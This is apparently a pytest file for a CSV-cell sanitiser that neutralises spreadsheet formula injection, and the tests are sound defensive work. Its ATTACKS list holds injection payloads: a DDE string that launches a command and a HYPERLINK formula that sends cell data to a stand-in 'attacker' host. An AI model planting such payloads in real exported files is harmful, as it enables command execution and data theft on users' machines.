from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from fmnist_lib.common.csv_cells import original_text, safe_cells, safe_text

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker/?x="&A1,"ok")',
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "  =1",
    "\uff1d1+2",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_a_text_and_can_be_read_back(text):
    assert safe_text(text) == f"'{text}"
    assert original_text(safe_text(text)) == text


def test_numbers_names_and_missing_cells_stay_as_they_are():
    table = pd.DataFrame(
        {
            "number": [-1.5, np.nan],
            "text": ["-1.5", None],
            "name": ["a=b.png", "'quoted'"],
            "category": pd.Categorical(["Coat", "Bag"]),
            "flag": [True, False],
        }
    )
    assert safe_cells(table).to_csv(index=False) == table.to_csv(index=False)


def test_no_cell_of_an_exported_table_is_a_formula():
    table = pd.DataFrame(
        {"=1": ATTACKS, "other": pd.Categorical(ATTACKS), "n": range(len(ATTACKS))}
    )
    written = pd.read_csv(io.StringIO(safe_cells(table).to_csv(index=False)), dtype=str)
    texts = [*written.columns, *written["'=1"], *written["other"]]
    assert all(not text.lstrip().startswith(("=", "+", "-", "@", "\uff1d")) for text in texts)
    assert table["=1"].tolist() == ATTACKS, "the table itself is unchanged"
